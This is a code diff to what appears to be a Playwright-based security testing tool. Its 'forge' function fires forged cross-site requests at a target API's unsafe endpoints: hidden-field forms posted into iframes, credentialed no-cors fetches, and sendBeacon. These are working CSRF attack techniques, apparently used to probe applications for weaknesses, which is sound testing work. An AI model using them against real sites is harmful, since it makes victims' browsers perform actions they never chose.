@@ -63,7 +63,8 @@ export function plunder(page, target) {
 }
 
 /**
- * Tries every unsafe operation in the name of whoever looks at the page (CSRF): by forms of all three types, and by fetch with and without cookies.
+ * Tries every unsafe operation in the name of whoever looks at the page (CSRF): by a form, by requests of all three types that
+ * forms can have, and by fetch with and without cookies. Navigations are slow, so each operation gets one.
  * @param {import("playwright-core").Page} page @param {{ api: string, targets: { method: string, path: string }[] }} target
  */
 export function forge(page, target) {
@@ -92,11 +93,11 @@ export function forge(page, target) {
       action: "all",
       first_name: "Mallory",
     };
-    /** @param {HTMLIFrameElement} frame @param {string} url @param {string} type */
-    const submit = (frame, url, type) =>
+    /** @param {HTMLIFrameElement} frame @param {string} url */
+    const submit = (frame, url) =>
       new Promise((resolve) => {
         const form = document.createElement("form");
-        Object.assign(form, { method: "post", action: url, enctype: type, target: frame.name });
+        Object.assign(form, { method: "post", action: url, target: frame.name });
         for (const [name, value] of Object.entries(fields)) {
           const input = document.createElement("input");
           Object.assign(input, { type: "hidden", name, value });
@@ -109,6 +110,8 @@ export function forge(page, target) {
       });
     const json = JSON.stringify(fields);
     const text = { "Content-Type": "text/plain" };
+    const multipart = new FormData();
+    for (const [name, value] of Object.entries(fields)) multipart.set(name, value);
     /** @param {string} method @returns {RequestInit[]} */
     const fetches = (method) => [
       { method, body: json, headers: { "Content-Type": "application/json" }, credentials: "include" },
@@ -118,12 +121,12 @@ export function forge(page, target) {
         ? []
         : /** @type {RequestInit[]} */ ([
             { method, body: json, headers: text, mode: "no-cors", credentials: "include" },
+            { method, body: multipart, mode: "no-cors", credentials: "include" },
             { method, body: new URLSearchParams(fields), mode: "no-cors", credentials: "include" },
             { method, body: new URLSearchParams(fields), mode: "no-cors", credentials: "omit" },
             { method, mode: "no-cors", credentials: "include", keepalive: true },
           ])),
     ];
-    const types = ["application/x-www-form-urlencoded", "multipart/form-data", "text/plain"];
     // A few frames at work, each of which takes the next target when it is done.
     const work = async (/** @type {unknown} */ _, /** @type {number} */ n) => {
       const frame = document.createElement("iframe");
@@ -135,7 +138,7 @@ export function forge(page, target) {
         const sent = fetches(method).map((init) => fetch(url, init).catch(() => {}));
         if (method === "POST") {
           navigator.sendBeacon(url, new URLSearchParams(fields));
-          for (const type of types) await submit(frame, url, type);
+          await submit(frame, url);
         }
         await Promise.all(sent);
       }
